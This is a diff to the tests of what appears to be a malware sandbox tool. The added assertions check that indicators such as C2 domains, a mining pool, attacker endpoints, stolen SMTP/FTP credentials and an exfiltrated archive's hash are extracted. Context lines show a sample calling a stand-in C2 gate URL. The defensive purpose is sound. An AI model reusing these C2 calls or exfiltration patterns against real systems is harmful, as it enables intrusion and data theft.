@@ -180,7 +180,14 @@ print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', ti
     const replayed = cli(['replay', rec, '--out', join(t.path, 'replayed')]);
     assert.equal(replayed.code, 0, replayed.stderr);
     const again = JSON.parse(readFileSync(join(t.path, 'replayed', 'report.json'), 'utf8')) as Report;
-    assert.deepEqual([again.dns, again.sessions, again.network, again.findings.map((f) => [f.rule, f.output])], [r.dns, r.sessions, r.network, r.findings.map((f) => [f.rule, f.output])]);
+    assert.deepEqual([again.dns, again.sessions, again.network, again.findings.map((f) => [f.rule, f.output]), again.indicators], [r.dns, r.sessions, r.network, r.findings.map((f) => [f.rule, f.output]), r.indicators]);
+    // the indicators gather it: names, the hard-coded endpoints, URLs, accounts
+    const ind = r.indicators;
+    assert.ok(ind && ['c2.example.test', 'gulf.moneroocean.stream', 'smtp.example.test', 'ftp.example.test'].every((d) => ind.domains.includes(d)), JSON.stringify(ind));
+    assert.ok(ind.endpoints.includes('203.0.113.7:5000') && ind.endpoints.includes('203.0.113.9:7000') && !ind.endpoints.some((e) => e.startsWith('198.18.') || e.startsWith('192.0.2.53')), JSON.stringify(ind.endpoints));
+    assert.ok(ind.urls.includes('http://c2.example.test/gate.php?id=1') && ind.urls.includes('https://secure.example.test/api/beacon'), JSON.stringify(ind.urls));
+    assert.deepEqual(ind.accounts, [{ protocol: 'smtp', user: 'logs@mail.example.test', password: 'Hunter2!' }, { protocol: 'ftp', user: 'ops', password: 'ftp-pw' }]);
+    assert.match(html, /<h2 id="indicators">Indicators<\/h2>[\s\S]*<div class="argv">203\.0\.113\.7:5000<\/div>/);
     assert.match(html, /Connections caught in the sandbox \(9\)[\s\S]*GET \/gate\.php\?id=1/);
     assert.match(html, /POST \/api\/beacon · Host: secure\.example\.test · User-Agent: implant\/2\.1 · body 4 bytes, sha256 [0-9a-f]{64}: id=7<\/span><div class="muted small">server name secure\.example\.test · decrypted \(the sample accepted the sandbox's certificate\)<\/div><\/td><td>\d+ <span class="muted small">\(\d+ in the clear\)/);
     assert.match(html, /<td>smtp<\/td><td><span class="argv">mail from promo@shop\.example\.test to victim@example\.test · Subject: You won · HELO [^<]* · logged in as logs@mail\.example\.test \(AUTH PLAIN, password Hunter2!\)<\/span><div class="muted small">STARTTLS: decrypted/);
@@ -491,6 +498,8 @@ test('the CLI prints the verdict line and writes report.json, report.html and th
     const archive = report.dropped.find((d) => d.path === '/tmp/.cache/loot.tgz');
     assert.ok(archive?.sha256, JSON.stringify(report.dropped));
     assert.deepEqual(upload?.http?.body && [upload.http.body.bytes, upload.http.body.sha256, upload.http.body.incomplete], [archive.size, archive.sha256, undefined]);
+    assert.deepEqual(report.indicators?.hashes.filter((h) => h.sha256 === archive.sha256).map((h) => [h.source, h.name]),
+      [['dropped', '/tmp/.cache/loot.tgz'], ['upload', 'https://cdn-update.example.test/panel/gate.php?id=devbox']]);
   } finally {
     t.cleanup();
   }
